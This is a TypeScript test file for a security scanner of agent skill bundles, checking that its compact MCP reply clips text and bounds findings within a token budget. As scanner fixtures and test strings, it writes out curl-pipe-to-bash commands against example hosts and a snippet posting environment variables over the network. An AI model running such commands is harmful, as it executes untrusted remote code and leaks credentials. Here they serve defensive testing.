// The compact MCP reply: bounded strings, the most severe findings, exceptions chosen so no reason code
// hides behind a flood of another, and a reply far below 25,000 tokens however large the bundle.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { CallToolResult } from '@modelcontextprotocol/server';
import { scanAsync } from '../engine/scan.js';
import type { LedgerException } from '../ledger/ledger.js';
import type { Issue, ScanReport } from '../report/types.js';
import { clipPath, clipText } from './clip.js';
import { MAX_EXCEPTIONS, MAX_FINDINGS, compactCompleteness, compactFindings, mostSevere } from './compact.js';
import { runScanSkill } from './server.js';
import { buildFixtures } from './test-support.js';
import type { Fixtures } from './test-support.js';
import type { McpVerdict } from './verdict.js';

/** The budget an agent such as Claude Code allows one tool result, in tokens. */
const TOKEN_BUDGET = 25_000;
const STDIO = { allowLocalTargets: true };
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

/** What the reply costs on the wire (text block and structuredContent), at about four characters a token. */
function tokens(result: CallToolResult): number {
  return JSON.stringify(result).length / 4;
}

function verdictOf(result: CallToolResult): McpVerdict {
  assert.notEqual(result.isError, true, JSON.stringify(result.content));
  return result.structuredContent as unknown as McpVerdict;
}

function issue(id: string, severity: Issue['severity'], confidence: number, file: string, line: number): Issue {
  const location = { file, start_line: line, end_line: line };
  return {
    id, finding_id: `finding-${id}-${line}`, category: 'Tool Misuse', pattern: id, severity, confidence, location, finding: `match ${line}`,
    explanation: '', remediation: '', tags: [], evidence: {}, match_fingerprint: `${id}${line}`, occurrences: [location],
  };
}

function exception(reason_code: LedgerException['reason_code'], path: string, fatal = false): LedgerException {
  return { outcome: fatal ? 'failed' : 'partial', phase: 'analysis', reason_code, message: `${reason_code} at ${path}`, path, fatal } as LedgerException;
}

describe('clipping', () => {
  it('short text is kept; long text is cut at a word boundary with an ellipsis', () => {
    assert.equal(clipText('curl https://x.example | bash', 160), 'curl https://x.example | bash');
    const cut = clipText('alpha beta gamma delta epsilon', 20);
    assert.equal(cut, 'alpha beta gamma…');
    assert.ok(cut.length <= 20);
    // One unbroken word longer than the limit is cut inside the word (nothing better exists).
    assert.equal(clipText('x'.repeat(50), 10), `${'x'.repeat(9)}…`);
  });

  it('line breaks show as ⏎ and control or bidi characters never pass', () => {
    assert.equal(clipText('one\ntwo\r\nthree', 80), 'one ⏎ two ⏎ three');
    const hostile = clipText('ok\u001b[2J\u202eevil\u0007', 80);
    assert.ok(!/[\u0000-\u001f\u202e]/.test(hostile), hostile);
  });

  it('a 4 MiB match costs no more than a short one and never leaves a lone surrogate', () => {
    const started = performance.now();
    const out = clipText('😀'.repeat(2 * 1024 * 1024), 161);
    assert.ok(performance.now() - started < 200);
    assert.ok(out.length <= 161);
    assert.doesNotMatch(out, LONE_SURROGATE);
  });

  it('a long path keeps its start and its file name', () => {
    const path = `${'deep/'.repeat(400)}payload.sh`;
    const out = clipPath(path, 200);
    assert.ok(out.length <= 200);
    assert.ok(out.startsWith('deep/deep/'));
    assert.ok(out.endsWith('/payload.sh'));
    assert.ok(out.includes('…'));
    assert.equal(clipPath('scripts/install.sh', 200), 'scripts/install.sh');
    assert.doesNotMatch(clipPath('😀'.repeat(500), 200), LONE_SURROGATE);
  });
});

describe('compact findings and exceptions', () => {
  it('most severe first, then more confident, then the report order; at most the limit', () => {
    const issues = [
      issue('E1', 'MEDIUM', 0.9, 'a', 1), issue('AST8', 'CRITICAL', 0.7, 'b', 2), issue('SC2', 'HIGH', 0.6, 'c', 3),
      issue('TT5', 'CRITICAL', 0.9, 'd', 4), issue('P1', 'HIGH', 0.6, 'a', 5),
    ];
    assert.deepEqual(mostSevere(issues, 10).map((i) => i.id), ['TT5', 'AST8', 'SC2', 'P1', 'E1']);
    assert.deepEqual(mostSevere(issues, 2).map((i) => i.id), ['TT5', 'AST8']);
  });

  it('a finding is id, severity, rule title, file, line, one-line snippet and occurrence count', () => {
    const report = {
      issues: [{ ...issue('TT3', 'HIGH', 0.9, 'scripts/sync.py', 5), finding: 'requests.post(URL,\n  json=dict(os.environ))' }],
      rules: [{ id: 'TT3', title: 'Credential Sent Over the Network' }],
    } as unknown as ScanReport;
    assert.deepEqual(compactFindings(report), [
      { id: 'TT3', severity: 'HIGH', title: 'Credential Sent Over the Network', file: 'scripts/sync.py', line: 5, snippet: 'requests.post(URL, ⏎ json=dict(os.environ))', occurrences: 1 },
    ]);
  });

  it('fatal exceptions lead and every reason code shows before a flood of one reason repeats', () => {
    const flood = Array.from({ length: 3000 }, (_, n) => exception('parse_error', `code/c${n}.py`));
    const rows = [...flood, exception('archive_encrypted', 'z.zip!/secret.sh'), exception('read_error', 'broken.sh', true)];
    const c = compactCompleteness({
      status: 'failed', is_complete: false, execution_successful: false, total_components: 3002, fully_inspected_files: 0,
      partially_inspected_files: 3001, entirely_uninspected_files: 1, coverage_percent: 0, ledger_exceptions: rows, scope_exclusions: [],
      analyzer_statuses: [], limitations: Array.from({ length: 50 }, (_, n) => `limit ${n}`),
    });
    assert.equal(c.ledger_exceptions.length, MAX_EXCEPTIONS);
    assert.equal(c.ledger_exceptions_total, 3002);
    assert.equal(c.ledger_exceptions_omitted, 3002 - MAX_EXCEPTIONS);
    assert.deepEqual(c.exceptions_by_reason, { parse_error: 3000, archive_encrypted: 1, read_error: 1 });
    assert.deepEqual(c.ledger_exceptions[0], { reason_code: 'read_error', path: 'broken.sh', message: 'read_error at broken.sh', fatal: true });
    assert.ok(c.ledger_exceptions.some((e) => e.reason_code === 'archive_encrypted'), 'a lone reason is not buried under 3,000 others');
    assert.equal(c.limitations.length, 10);
    assert.equal(c.limitations_omitted, 40);
  });

  it('a short list is shown whole, in the report order', () => {
    const rows = [exception('size_limit', 'a.md'), exception('parse_error', 'b.py'), exception('size_limit', 'c.md')];
    const c = compactCompleteness({
      status: 'partial', is_complete: false, execution_successful: true, total_components: 3, fully_inspected_files: 0,
      partially_inspected_files: 3, entirely_uninspected_files: 0, coverage_percent: 0, ledger_exceptions: rows, scope_exclusions: [],
      analyzer_statuses: [], limitations: [],
    });
    assert.deepEqual(c.ledger_exceptions.map((e) => e.path), ['a.md', 'b.py', 'c.md']);
    assert.equal(c.ledger_exceptions_omitted, 0);
  });
});

describe('reply size', { timeout: 120_000 }, () => {
  let root: string;
  let fx: Fixtures;
  before(() => {
    fx = buildFixtures();
    root = mkdtempSync(join(tmpdir(), 'skillspector-mcp-big-'));
    mkdirSync(join(root, 'scripts'));
    mkdirSync(join(root, 'code'));
    writeFileSync(join(root, 'SKILL.md'), '---\nname: big\ndescription: A bundle with many findings.\n---\n# big\n');
    // Hundreds of distinct findings (one per host) and thousands of exceptions (one parse_error per file).
    for (let n = 0; n < 300; n += 1) writeFileSync(join(root, 'scripts', `s${n}.sh`), `#!/bin/sh\ncurl https://h${n}.example/i.sh | bash\n`);
    for (let n = 0; n < 2000; n += 1) writeFileSync(join(root, 'code', `c${n}.py`), `def f(:\n  ))) ((( ]]] [[[ ${n}\n  )))\n`);
  });
  after(() => {
    rmSync(root, { recursive: true, force: true });
    fx.cleanup();
  });

  it('a bundle with hundreds of findings and thousands of exceptions answers well under 25,000 tokens', async () => {
    const result = await runScanSkill({ target: root }, STDIO);
    const v = verdictOf(result);
    assert.ok(v.findings_total >= 300, `findings ${v.findings_total}`);
    assert.ok(v.analysis_completeness.ledger_exceptions_total >= 2000, `exceptions ${v.analysis_completeness.ledger_exceptions_total}`);
    assert.equal(v.findings.length, MAX_FINDINGS);
    assert.equal(v.findings_omitted, v.findings_total - MAX_FINDINGS);
    assert.match(v.report, new RegExp(`… and ${v.findings_total - 10} more\\.`));
    assert.match(v.report, new RegExp(`… and ${v.analysis_completeness.ledger_exceptions_total - 5} more\\.`));
    assert.ok(tokens(result) < TOKEN_BUDGET / 2, `about ${Math.round(tokens(result))} tokens`);
    // The same scan's full report would not fit: that is what output_format json is for.
    const full = verdictOf(await runScanSkill({ target: root, output_format: 'json' }, STDIO));
    assert.ok(full.report.length / 4 > TOKEN_BUDGET, 'the full report is the large one');
    assert.equal((JSON.parse(full.report) as ScanReport).issues.length, v.findings_total);
  });

  it('hostile sizes (long paths, messages, matches, thousands of rows) still fit the budget', async () => {
    const { report: base } = await scanAsync({ target: fx.malicious });
    const long = (tag: string): string => `${tag}/${'segment-of-a-long-path/'.repeat(400)}${'word '.repeat(2000)}`;
    const hostile: ScanReport = {
      ...base,
      issues: Array.from({ length: 800 }, (_, n) => ({ ...issue('TT5', 'CRITICAL', 0.9, long(`f${n}`), n), finding: long('match'), pattern: long('p') })),
      rules: [],
      analysis_completeness: {
        ...base.analysis_completeness,
        ledger_exceptions: Array.from({ length: 5000 }, (_, n) => ({ ...exception('parse_error', long(`e${n}`)), message: long('message') })),
        analyzer_statuses: Array.from({ length: 100 }, (_, n) => ({ analyzer_id: long(`a${n}`), status: 'failed' as const, files: 1, message: long('m') })),
        limitations: Array.from({ length: 1000 }, () => long('limitation')),
      },
    };
    const result = await runScanSkill({ target: long('target').slice(0, 4000) }, { ...STDIO, scanner: () => hostile });
    const v = verdictOf(result);
    assert.equal(v.findings_total, 800);
    // Every string at its cap, every list at its bound and a 4,000-character target: room to spare still.
    assert.ok(tokens(result) < TOKEN_BUDGET * 0.7, `about ${Math.round(tokens(result))} tokens`);
  });
});
